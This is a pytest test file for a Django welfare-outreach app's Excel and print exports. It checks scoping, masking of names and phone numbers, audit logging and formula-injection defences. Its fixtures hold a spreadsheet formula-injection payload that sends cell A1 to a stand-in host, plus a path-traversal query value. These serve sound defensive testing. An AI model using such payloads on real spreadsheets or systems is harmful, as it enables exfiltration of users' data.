"""The worklist and the referral list as Excel and as a page to print, from the outside: the rows are the page's
under the same filters, scoped like it, hostile text lands as text, names are masked and numbers never in clear,
each export or printout is an audited bulk read, and an Excel download needs a reason."""

from __future__ import annotations

import io
import re
from datetime import date
from urllib.parse import unquote

import openpyxl
import pytest
from django.urls import reverse

from dolbom.core.models import AuditEvent
from dolbom.intake.models import Referral, ReferralChannel, WorkItem, WorkSource, WorkStatus
from dolbom.intake.selectors import WORKLIST_LIMIT
from dolbom.intake.services.outreach import add_event_contact
from dolbom.registry.models import Address, Household, Membership, Staff
from tests.conftest import make_person

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
HOSTILE_NAME = '=HYPERLINK("http://evil.example")'


@pytest.fixture(autouse=True)
def home(settings, tmp_path):
    settings.HOME = tmp_path / "home"
    return settings.HOME


@pytest.fixture
def lists(city):
    """Items of dong 0 (the officer's): the city's household, a household whose address and head's name are
    formulas, a walk-in assigned to the officer; one of dong 1 and one of the other district; and referrals."""
    officer = Staff.objects.get(user=city.users["dong_officer"])
    dong0, dong1, dong2 = city.dongs
    address = Address.objects.create(dong=dong0, road_address=HOSTILE, detail="@1동 2호", tong=7, ban=1)
    hostile = Household.objects.create(address=address, dong=dong0, registered_on=date(2020, 1, 1))
    head = make_person(HOSTILE_NAME, date(1960, 1, 1), "M", serial=400, phone="010-9999-0000")
    Membership.objects.create(household=hostile, person=head, relationship="head", moved_in=date(2020, 1, 1))
    items = {
        "own": WorkItem.objects.create(dong=dong0, household=city.households[0], source=WorkSource.WALK_IN),
        "hostile": WorkItem.objects.create(dong=dong0, household=hostile, source=WorkSource.CAMPAIGN),
        "dong1": WorkItem.objects.create(dong=dong1, household=city.households[1], source=WorkSource.WALK_IN),
        "district2": WorkItem.objects.create(dong=dong2, household=city.households[2], source=WorkSource.WALK_IN),
    }
    items["own"].assigned_to = officer
    items["own"].status = WorkStatus.ASSIGNED
    items["own"].next_try_on = date(2026, 12, 1)
    items["own"].save()
    referrals = {}
    for key, dong, where, concern in (
        ("own", dong0, "+시청로 5 반지하", HOSTILE + " 연락처 010-1234-5678"),
        ("district2", dong2, "강변로 99", "강변구의 신고"),
    ):
        referral = Referral.objects.create(
            channel=ReferralChannel.PHONE, dong=dong, address_text=where, concern=concern
        )
        WorkItem.objects.create(dong=dong, source=WorkSource.REFERRAL, referral=referral)
        referrals[key] = referral
    return {"items": items, "referrals": referrals}


def _download(client, user, name="worklist_export", query="", **data):
    client.force_login(user)
    url = reverse(name) + (f"?{query}" if query else "")
    return client.post(url, {"preset": "visit_schedule", **data})


def _sheet(response):
    assert response.status_code == 200, response.content[:500]
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _texts(sheet) -> str:
    return "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None)


def _header_row(sheet) -> int:
    return next(r for r in range(1, 10) if sheet.cell(r, 1).value == "발굴 경로")


def test_the_officer_downloads_the_worklist_of_their_dong(client, city, lists):
    response = _download(client, city.users["dong_officer"])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=utf-8''" in disposition
    assert unquote(disposition.split("''", 1)[1]).startswith("방문목록_가온동_")
    assert response["Cache-Control"] == "no-store"
    sheet = _sheet(response)
    header = _header_row(sheet)
    titles = [c.value for c in sheet[header]]
    assert titles == [
        "발굴 경로", "통/반", "주소(동·호)", "가구주", "접수일",
        "대기 일수", "상태", "담당 공무원", "다음 시도 예정일", "결과",
    ]  # fmt: skip
    heading = _texts(sheet).split("발굴 경로")[0]
    assert "가온동" in heading and "officer" in heading and "(한국 시간)" in heading and "열린 항목만" in heading
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=header + 1)]
    assert len(rows) == 3  # the household, the hostile one, and the phoned-in report not yet tied to one
    own = next(r for r in rows if r[2] == "한빛시 중앙구 시청로 10 101동 1203호")
    assert own[1] == "3통 2반" and own[3] == "김*희" and own[7] == "officer"
    assert own[8].date() == date(2026, 12, 1)
    text = _texts(sheet)
    # Other dongs' households are not there; no name in clear, no phone, no resident number.
    assert "시청로 11" not in text and "시청로 12" not in text
    assert "김영희" not in text and not re.search(r"01\d-\d{3,4}-\d{4}|\d{6}-?[1-8]\d{6}", text)


def test_hostile_address_and_name_land_as_text(client, city, lists):
    sheet = _sheet(_download(client, city.users["dong_officer"]))
    header = _header_row(sheet)
    hostile_row = next(row for row in sheet.iter_rows(min_row=header + 1) if str(row[2].value).startswith("="))
    address, name = hostile_row[2], hostile_row[3]
    assert address.value == HOSTILE + " @1동 2호"
    assert name.value.startswith("=") and "evil" not in name.value  # masked, and still text
    for cell in (address, name):
        assert cell.data_type == "s" and cell.quotePrefix


def test_the_download_is_audited_with_its_reason_count_and_filters_never_names(client, city, lists):
    _download(client, city.users["dong_officer"], query="tong=3&sort=tong", reason="12월 첫째 주")
    event = AuditEvent.objects.get(action="intake.export_worklist")
    assert event.actor_name == "officer"
    assert event.reason == "방문 일정: 12월 첫째 주"
    assert event.detail["rows"] == 1 and event.detail["preset"] == "visit_schedule"  # 3통 only
    assert event.detail["filters"]["tong"] == 3 and event.detail["filters"]["sort"] == "tong"
    assert "김" not in str(event.detail) and "시청로" not in str(event.detail)


@pytest.mark.parametrize("data", [{"preset": ""}, {"preset": "other", "reason": " "}, {"preset": "bogus"}])
def test_a_download_without_a_reason_is_refused_in_korean(client, city, lists, data):
    client.force_login(city.users["dong_officer"])
    response = client.post(reverse("worklist_export"), data)
    assert response.status_code == 422
    assert "spreadsheetml" not in response["Content-Type"]
    html = response.content.decode()
    # A preset that is not offered is the form's own error (a hand-made request); the others the service's.
    assert ("올바르게 선택" in html) if data["preset"] == "bogus" else ("내려받는 이유" in html)
    assert not AuditEvent.objects.filter(action="intake.export_worklist").exists()


def test_a_typed_reason_is_enough(client, city, lists):
    response = _download(client, city.users["dong_officer"], preset="other", reason="구청 현황 보고")
    _sheet(response)
    assert AuditEvent.objects.get(action="intake.export_worklist").reason == "구청 현황 보고"


def test_the_rows_follow_the_page_filters(client, city, lists):
    officer = city.users["dong_officer"]
    mine = _sheet(_download(client, officer, query="mine=1"))
    assert "시청로 10" in _texts(mine) and HOSTILE not in _texts(mine)
    unassigned = _sheet(_download(client, officer, query="unassigned=1"))
    assert "시청로 10 " not in _texts(unassigned) and HOSTILE in _texts(unassigned)
    tong = _sheet(_download(client, officer, query="tong=7"))
    assert HOSTILE in _texts(tong) and "시청로 10" not in _texts(tong)
    assert "7통" in _texts(tong).split("발굴 경로")[0]


@pytest.mark.parametrize("name", ["worklist_export", "referrals_export"])
def test_a_hand_edited_query_string_cannot_widen_the_list(client, city, lists, name):
    officer = city.users["dong_officer"]
    for dong in (city.dongs[1], city.dongs[2]):
        text = _texts(_sheet(_download(client, officer, name, query=f"dong={dong.code}&closed=1")))
        assert "시청로 11" not in text and "시청로 12" not in text and "강변로" not in text
    response = _download(client, officer, name, query="dong=../../etc")
    assert response.status_code == 400


@pytest.mark.parametrize("role", ["agency_worker", "safety_net", "analyst"])
@pytest.mark.parametrize("name", ["worklist_export", "worklist_print", "referrals_export", "referrals_print"])
def test_roles_without_the_worklist_are_refused(client, city, lists, role, name):
    client.force_login(city.users[role])
    assert client.get(reverse(name)).status_code == 403
    assert client.post(reverse(name), {"preset": "report"}).status_code in {403, 405}
    assert not AuditEvent.objects.filter(action__startswith="intake.export").exists()


def test_the_district_manager_gets_the_districts_dongs(client, city, lists):
    text = _texts(_sheet(_download(client, city.users["district_manager"])))
    assert "시청로 10" in text and "시청로 11" in text and "시청로 12" not in text


def test_a_list_longer_than_the_page_is_cut_and_says_so(client, city, lists):
    WorkItem.objects.bulk_create(
        WorkItem(dong=city.dongs[0], household=city.households[0], source=WorkSource.CAMPAIGN)
        for _ in range(WORKLIST_LIMIT)
    )
    sheet = _sheet(_download(client, city.users["dong_officer"]))
    header = _header_row(sheet)
    rows = [row for row in sheet.iter_rows(min_row=header + 1) if row[1].value or row[2].value]
    assert len(rows) == WORKLIST_LIMIT
    assert "처음 500가구만" in _texts(sheet)
    assert AuditEvent.objects.get(action="intake.export_worklist").detail["truncated"] is True


def test_the_referral_list_exports_what_was_noticed_as_text_with_numbers_masked(client, city, lists):
    sheet = _sheet(_download(client, city.users["dong_officer"], "referrals_export", preset="report"))
    header = _header_row(sheet)
    assert sheet.cell(header, 11).value == "발견 내용"
    [row] = list(sheet.iter_rows(min_row=header + 1))
    assert row[2].value == "+시청로 5 반지하" and row[2].quotePrefix and row[2].data_type == "s"
    assert row[10].value.startswith("=HYPERLINK") and row[10].quotePrefix and row[10].data_type == "s"
    assert "1234-5678" not in row[10].value and "010-****-5678" in row[10].value
    assert "강변로" not in _texts(sheet)
    event = AuditEvent.objects.get(action="intake.export_referrals")
    assert event.reason == "보고" and event.detail["rows"] == 1


def test_the_print_page_has_no_menu_and_the_columns_to_fill_in(client, city, lists):
    client.force_login(city.users["dong_officer"])
    response = client.get(reverse("worklist_print"), {"tong": "3"})
    assert response.status_code == 200
    html = response.content.decode()
    assert 'aria-label="주 메뉴"' not in html and "site-header" not in html
    assert "intake/print.css" in html and "intake/print.js" in html
    assert "방문 목록 · 가온동" in html and "officer" in html and "3통" in html
    assert "방문일" in html and "결과·메모" in html
    assert "한빛시 중앙구 시청로 10 101동 1203호" in html and "김*희" in html
    assert HOSTILE not in html.replace("&quot;", '"').replace("&amp;", "&")  # 7통: not on this list
    assert "김영희" not in html and "010-" not in html
    event = AuditEvent.objects.get(action="intake.print_worklist")
    assert event.detail["rows"] == 1 and event.detail["filters"]["tong"] == 3


def test_the_list_pages_link_to_print_and_excel_with_their_filters(client, city, lists):
    client.force_login(city.users["dong_officer"])
    html = client.get(reverse("worklist"), {"tong": "3", "mine": "1"}).content.decode()
    assert 'href="/worklist/print/?tong=3&amp;mine=1"' in html
    assert 'href="/worklist/export/?tong=3&amp;mine=1"' in html
    html = client.get(reverse("referrals"), {"open": "1"}).content.decode()
    assert 'href="/referrals/print/?open=1"' in html and 'href="/referrals/export/?open=1"' in html
    # A reporter's referral list has neither.
    client.force_login(city.users["safety_net"])
    html = client.get(reverse("referrals")).content.decode()
    assert "/referrals/print/" not in html and "/referrals/export/" not in html


def test_the_export_form_asks_for_a_reason_and_keeps_the_filters(client, city, lists):
    client.force_login(city.users["dong_officer"])
    html = client.get(reverse("worklist_export"), {"tong": "3"}).content.decode()
    assert 'action="?tong=3"' in html and "방문 일정" in html and "보고" in html and "3통" in html
    assert not AuditEvent.objects.filter(action="intake.export_worklist").exists()


def test_a_person_met_at_an_event_is_on_the_printout_by_masked_name_and_where_they_were_met(client, city):
    from tests.intake.test_events import _event

    event = _event(city, place="장터 입구 부스")
    add_event_contact(
        user=city.users["dong_officer"], event_id=event.pk, name="홍길동", dong_code=city.dongs[0].code,
        asked="기초연금 문의, 연락처 010-1234-5678", follow_up=True,
    )  # fmt: skip
    sheet = _sheet(_download(client, city.users["dong_officer"]))
    texts = _texts(sheet)
    assert "홍*동" in texts and "장터 입구 부스" in texts and "찾아가는 상담" in texts
    assert "홍길동" not in texts and "1234-5678" not in texts
